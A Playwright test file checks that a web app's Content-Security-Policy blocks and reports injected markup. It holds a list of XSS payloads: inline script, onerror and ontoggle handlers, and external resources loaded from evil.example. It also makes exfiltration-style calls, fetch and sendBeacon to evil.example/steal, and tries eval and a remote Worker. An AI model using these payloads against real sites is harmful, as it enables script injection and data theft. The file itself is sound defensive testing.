/** If a hostile text became markup one day, the Content-Security-Policy would still hold: Chromium reports each attempt, and none succeeds. */
import { expect, type Request, test } from "@playwright/test";
import { signUp } from "./people";

const OUT = "https://evil.example";
/** What an injected text would try; the directive that stops it. */
const ATTEMPTS: [string, string][] = [
  ["script-src-elem", "<script>window.__ran = 1</script>"],
  ["script-src-elem", `<script src="${OUT}/x.js"></script>`],
  ["script-src-attr", '<img src="data:," onerror="window.__ran = 1">'],
  ["script-src-attr", '<details open ontoggle="window.__ran = 1">x</details>'],
  ["img-src", `<img src="${OUT}/p.png?secret">`],
  ["style-src-elem", `<link rel="stylesheet" href="${OUT}/x.css">`],
  ["frame-src", `<iframe src="${OUT}/"></iframe>`],
  ["object-src", `<object data="${OUT}/x.swf"></object>`],
  ["media-src", `<video src="${OUT}/v.mp4"></video>`],
  ["base-uri", `<base href="${OUT}/">`],
];

test("the policy stops and reports what injected markup would try", async ({
  page,
  baseURL,
}) => {
  const elsewhere: string[] = [];
  const note = (request: Request) => {
    const { protocol, origin } = new URL(request.url());
    if (
      protocol.startsWith("http") &&
      origin !== baseURL &&
      request.failure()?.errorText !== "csp"
    )
      elsewhere.push(request.url());
  };
  page.on("requestfinished", note);
  page.on("requestfailed", note);
  await page.addInitScript(() => {
    const told: string[] = [];
    Object.assign(window, { __told: told });
    document.addEventListener("securitypolicyviolation", (event) =>
      told.push(event.effectiveDirective),
    );
  });
  await signUp(page);
  const told = () =>
    page.evaluate(() => (window as unknown as { __told: string[] }).__told);
  expect(await told(), "the house itself keeps to its policy").toEqual([]);
  for (const [directive, markup] of ATTEMPTS) {
    const before = (await told()).length;
    await page.evaluate(
      (html) =>
        document.body.append(
          document.createRange().createContextualFragment(html),
        ),
      markup,
    );
    await expect
      .poll(async () => (await told()).slice(before), { message: markup })
      .toContain(directive);
  }
  const tries = await page.evaluate(async (out) => {
    const refused = async (attempt: () => unknown) => {
      // What the debugger runs may eval; what a timer runs is the page's own.
      await new Promise((go) => setTimeout(go));
      try {
        await attempt();
        return false;
      } catch {
        return true;
      }
    };
    return {
      fetch: await refused(() => fetch(`${out}/steal`)),
      beacon:
        !navigator.sendBeacon(`${out}/steal`, "x") || "queued, then blocked",
      eval: await refused(() => (0, eval)("window.__ran = 1")),
      function: await refused(() => new Function("window.__ran = 1")()),
      worker: await refused(
        () =>
          new Promise(
            (_, stopped) => (new Worker(`${out}/w.js`).onerror = stopped),
          ),
      ),
    };
  }, OUT);
  expect(tries).toMatchObject({
    fetch: true,
    eval: true,
    function: true,
    worker: true,
  });
  expect(await page.evaluate(() => "__ran" in window)).toBe(false);
  expect(elsewhere).toEqual([]);
});
